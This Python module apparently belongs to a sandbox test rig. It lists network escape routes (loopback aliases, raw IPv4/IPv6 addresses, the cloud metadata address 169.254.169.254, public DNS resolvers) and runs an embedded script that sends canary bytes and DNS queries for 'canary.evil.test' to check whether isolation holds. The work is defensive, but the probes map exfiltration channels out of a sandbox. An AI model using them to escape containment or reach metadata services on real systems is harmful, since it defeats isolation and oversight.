"""Ways out of a machine, tried from inside it and, as their twin, from this host, where each one does arrive."""

import json
import subprocess
import sys

from rig.netns import ADDRESS4, ADDRESS6

CANARY = "canary.evil.test"
# argv[1]: a JSON list of [kind, host, port]. Prints one line for each: "reached", or how it failed.
SCRIPT = r'''
import json, socket, struct, sys
def query(name):
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
    return b"\0\1\1\0\0\1\0\0\0\0\0\0" + labels + b"\0" + struct.pack(">HH", 1, 1)
def go(kind, host, port):
    if kind == "name":
        socket.getaddrinfo(host, port)
        return "resolved"
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    s = socket.socket(family, socket.SOCK_DGRAM if kind.startswith("udp") else socket.SOCK_STREAM)
    s.settimeout(1)
    s.connect((host, port))
    if kind == "tcp":
        s.sendall(b"canary")
    elif kind == "udp":
        s.send(b"canary")
    elif kind == "udp-dns":
        s.send(query("canary.evil.test"))
    elif kind == "tcp-dns":
        q = query("canary.evil.test")
        s.sendall(struct.pack(">H", len(q)) + q)
    if kind.endswith("dns") or kind == "udp":
        s.recv(999)
    return "reached"
for way in json.loads(sys.argv[1]):
    try:
        print(go(*way))
    except OSError as e:
        print(type(e).__name__, e.errno)
'''


def tcp(host, port=22):
    return ("tcp", host, port), {"kind": "bytes", "address": host, "port": port}


def udp(host, port=9999):
    return ("udp", host, port), {"kind": "udp", "address": host, "port": port}


def dns(kind, host):
    return (kind + "-dns", host, 53), {"kind": "dns", "server": host, "source": kind, "name": CANARY}


# What is tried -> [(the way, the event that shows at the rig when it arrives)].
WAYS = {
    "the host's loopback": [tcp("127.0.0.1"), tcp("127.0.0.1", 8443), udp("127.0.0.1")],
    "another alias": [tcp("127.0.0.29"), tcp("127.0.0.31", 5432), udp("127.0.0.29")],
    "a raw address": [tcp(ADDRESS4), tcp(ADDRESS6), tcp("8.8.8.8", 853), udp(ADDRESS4), udp(ADDRESS6, 443)],
    "the metadata service": [tcp("169.254.169.254"), tcp("fd00:ec2::254")],
    "a name server": [dns("udp", ADDRESS4), dns("tcp", ADDRESS4), dns("udp", "1.1.1.1"), dns("tcp", "1.1.1.1"),
                      dns("udp", "127.0.0.53")],
    "a name": [(("name", CANARY, 443), {"kind": "dns", "name": CANARY})],
}


def argv(what, python="python3"):
    return [python, "-c", SCRIPT, json.dumps([way for way, _ in WAYS[what]])]


def from_here(what):
    """Tries it on this host; what came of each."""
    done = subprocess.run(argv(what, sys.executable), capture_output=True, text=True, check=True, timeout=60)
    return done.stdout.splitlines()
